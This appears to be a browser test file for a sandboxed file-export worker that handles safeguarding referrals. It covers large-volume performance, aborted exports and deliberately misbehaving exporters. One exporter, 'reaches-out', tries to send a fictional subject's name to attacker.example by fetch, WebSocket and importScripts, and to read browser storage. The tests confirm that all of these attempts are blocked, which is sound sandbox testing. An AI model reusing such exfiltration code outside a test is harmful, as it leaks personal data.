/** Files of referrals made in a real browser: very many of them, a making that is stopped, and hostile exporters. */
import type { Issue } from '@cyber-prevent/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openExtension, type TestExtension } from '../../page/test-extension.js';
import { LONG_TASK_MS, longestOfThree, MARKS_END } from '../../page/thread-time.js';

declare const test: {
  keep(count: number): void;
  make(exporter: string, stopAt?: StopAt): Promise<Made>;
};
interface StopAt {
  readonly step: string;
  /** Words of progress of that step. */
  readonly nth: number;
}
interface Made {
  readonly size: number | undefined;
  readonly rowCount: number | undefined;
  readonly beginning: string;
  readonly issues: readonly Issue[];
  readonly leftOut: readonly Issue[];
  /** Words of progress, by step. */
  readonly progress: Readonly<Record<string, number>>;
  /** Milliseconds until the file was made, by the clock. */
  readonly tookMs: number;
  readonly frames: number;
}

const PANEL = `
  import { fileClient } from '../sandbox/file/file-client.ts';
  import { makeFile } from '../views/paper/give-out/make-file.ts';
  const patient = fileClient('parse.html');
  const hasty = fileClient('parse.html', { quietMs: 3000, wholeMs: 8000 });
  // Only what never ends has so little time: a busy machine takes longer over a long file.
  const services = { files: async () => (records.length > 100 ? patient : hasty), today: () => '2026-11-24' };
  const lists = { aliases: [], addresses: [], schools: [], phones: ['07700 900123'], emails: [], categories: [] };
  let records = [];
  globalThis.test = {
    keep(count) {
      records = [];
      const add = (kind, value) => records.push({ kind, id: value.id, value, heads: [], sources: {} });
      const referrer = { id: crypto.randomUUID(), name: 'Ottilie Brandt', role: 'Teacher' };
      add('referrer', referrer);
      for (let nth = 0; nth < count; nth += 1) {
        const subject = { id: crypto.randomUUID(), name: 'Taz Vael ' + nth, bornOn: '2009-03-14', ...lists };
        add('subject', subject);
        add('referral', {
          id: crypto.randomUUID(), subjectId: subject.id, referrerId: referrer.id, reference: 'CC-' + nth,
          receivedOn: '2026-11-03', narrative: 'Her mother rang. '.repeat(8), status: 'accepted',
          marking: 'OFFICIAL-SENSITIVE', otherReferences: [], suspectedOffences: [], lawMentioned: [], incidentDates: [],
        });
        if (nth % 4 === 0)
          add('relatedPerson', { id: crypto.randomUUID(), subjectId: subject.id, name: 'Ines Vael', relationship: 'mother', phones: [], emails: [] });
      }
    },
    async make(id, stopAt) {
      const referrals = records.flatMap((each) => (each.kind === 'referral' ? [each.id] : []));
      const wanted = { referrals, audience: 'force-system', marking: 'OFFICIAL-SENSITIVE', exporter: { id } };
      const stopper = new AbortController();
      const progress = {};
      const from = performance.now();
      const made = await makeFile(records, wanted, crypto.randomUUID(), services, {
        signal: stopper.signal,
        onProgress(step) {
          progress[step] = (progress[step] ?? 0) + 1;
          if (stopAt?.step === step && progress[step] === stopAt.nth) stopper.abort();
        },
      });
      const tookMs = Math.round(performance.now() - from);
      // The task of the mark hands the outcome to the test, which no page does.
      await new Promise((resolve) => setTimeout(resolve));
      ${MARKS_END};
      const bytes = made.ok ? made.value.made.bytes : undefined;
      return {
        size: bytes?.length, rowCount: made.ok ? made.value.made.rowCount : undefined,
        beginning: new TextDecoder().decode(bytes?.slice(0, 4000)),
        issues: made.issues, leftOut: made.ok ? made.value.leftOut : [],
        progress, tookMs, frames: document.querySelectorAll('iframe').length,
      };
    },
  };
`;
/** The worker as it ships, with exporters beside that do what no exporter should. */
const WORKER = `
  import { startFileWorker } from '../sandbox/file/file-worker.ts';
  import { HOSTED } from '../sandbox/file/hosted.ts';
  const odd = (id, write, leftOut) => ({ id, title: id, mediaType: 'text/plain', extension: 'odd', takes: ['records'], write, ...(leftOut ? { leftOut } : {}) });
  const warning = (message) => ({ code: 'odd', severity: 'warning', message });
  const ODD = { name: 'odd', version: '1.0.0', exporters: [
    odd('endless', () => { for (;;); }),
    odd('silent', () => new Promise(() => undefined)),
    odd('chatty', async (_, { progress }) => { for (let at = 0; ; at += 1) { progress(at % 100, 100); await new Promise((resolve) => setTimeout(resolve, 5)); } }),
    odd('throwing', () => { throw new Error('Taz Vael'); }),
    odd('throwing-later', () => { setTimeout(() => { throw new Error('later'); }); return new Promise(() => undefined); }),
    odd('overlong', async () => new Uint8Array(64 * 1024 * 1024 + 1)),
    odd('wordy', async () => new Uint8Array(1), () => Array.from({ length: 100_001 }, (_, at) => warning('Left out ' + at))),
    odd('nothing', async () => undefined),
    odd('reaches-out', async ({ records }) => {
      const reached = [];
      const carries = encodeURIComponent(records.subject[0].name);
      for (const [name, reach] of [
        ['fetch', () => fetch('https://attacker.example/' + carries)],
        ['socket', () => new Promise((ok, no) => { const socket = new WebSocket('wss://attacker.example/' + carries); socket.onopen = ok; socket.onerror = no; })],
        ['script', () => importScripts('https://attacker.example/' + carries)],
        ['storage', () => new Promise((ok, no) => { const asked = indexedDB.open('vault'); asked.onsuccess = ok; asked.onerror = no; })],
        ['chrome', () => chrome.storage.local],
      ])
        try { await reach(); reached.push(name); } catch {}
      return new TextEncoder().encode('reached: ' + reached.join());
    }),
  ] };
  startFileWorker([...HOSTED, ODD]);
`;

let extension: TestExtension;
beforeAll(async () => {
  extension = await openExtension(PANEL, { 'file-worker.js': WORKER });
});
afterAll(() => extension?.close());

const keep = (count: number) => extension.panel.evaluate((given) => test.keep(given), count);
const make = (exporter: string, stopAt?: StopAt): Promise<Made> =>
  extension.panel.evaluate((...asked) => test.make(...asked), exporter, stopAt);

describe('a file of 20,000 referrals', () => {
  beforeAll(() => keep(20_000));

  it.each(['csv', 'single-online-home'])(
    'is made with progress, and no long task in the page: %s',
    async (exporter) => {
      const { result, longestMs } = await longestOfThree(extension.panel, () => make(exporter));
      const { JSHeapUsedSize = 0 } = await extension.panel.metrics();
      const { size, rowCount, progress, tookMs, leftOut } = result;
      console.log(
        JSON.stringify({
          givenOut: exporter,
          referrals: 20_000,
          bytes: size,
          tookMs,
          longestMs: Math.round(longestMs),
          heapMB: Math.round(JSHeapUsedSize / 1024 ** 2),
        }),
      );
      expect(result.issues).toEqual([]);
      expect(result.beginning).toContain('Taz Vael 0');
      expect(size).toBeGreaterThan(2_000_000);
      expect(rowCount).toBe(exporter === 'csv' ? 20_000 : undefined);
      expect(progress.narrowing).toBeGreaterThan(100);
      expect(progress.writing).toBeGreaterThan(10);
      expect(longestMs).toBeLessThan(LONG_TASK_MS);
      // Each sentence once, with the number of referrals that it is about.
      expect(new Set(leftOut.map(({ message }) => message)).size).toBe(leftOut.length);
      expect(leftOut.length).toBeLessThan(30);
    },
  );

  it.each([
    { step: 'narrowing', nth: 40 },
    { step: 'writing', nth: 5 },
    { step: 'counting', nth: 5 },
  ])('is stopped half-way at $step, and leaves nothing', async (stopAt) => {
    const { size, issues, progress, frames } = await make('csv', stopAt);
    expect(size).toBeUndefined();
    expect(issues.map(({ code }) => code)).toEqual(['file-stopped']);
    expect(progress[stopAt.step]).toBe(stopAt.nth);
    expect(frames).toBe(0);
  });
});

describe('an exporter', () => {
  beforeAll(() => keep(3));

  it.each([
    ['endless', 'file-too-slow'],
    ['silent', 'file-too-slow'],
    ['chatty', 'file-too-slow'],
    ['throwing', 'file-broke'],
    ['throwing-later', 'file-broke'],
    ['overlong', 'file-broke'],
    ['wordy', 'file-broke'],
    ['nothing', 'file-broke'],
    ['unknown', 'file-broke'],
  ])('that is %s is ended, and said so without its words', async (exporter, code) => {
    const { size, issues, frames } = await make(exporter);
    expect(size).toBeUndefined();
    expect(issues.map((issue) => issue.code)).toEqual([code]);
    expect(issues[0]?.message).toContain('Nothing was given out.');
    expect(JSON.stringify(issues)).not.toContain('Taz');
    expect(frames).toBe(0);
  });

  it('reaches no network, no database and nothing of the extension', async () => {
    expect((await make('reaches-out')).beginning).toBe('reached: ');
  });
});
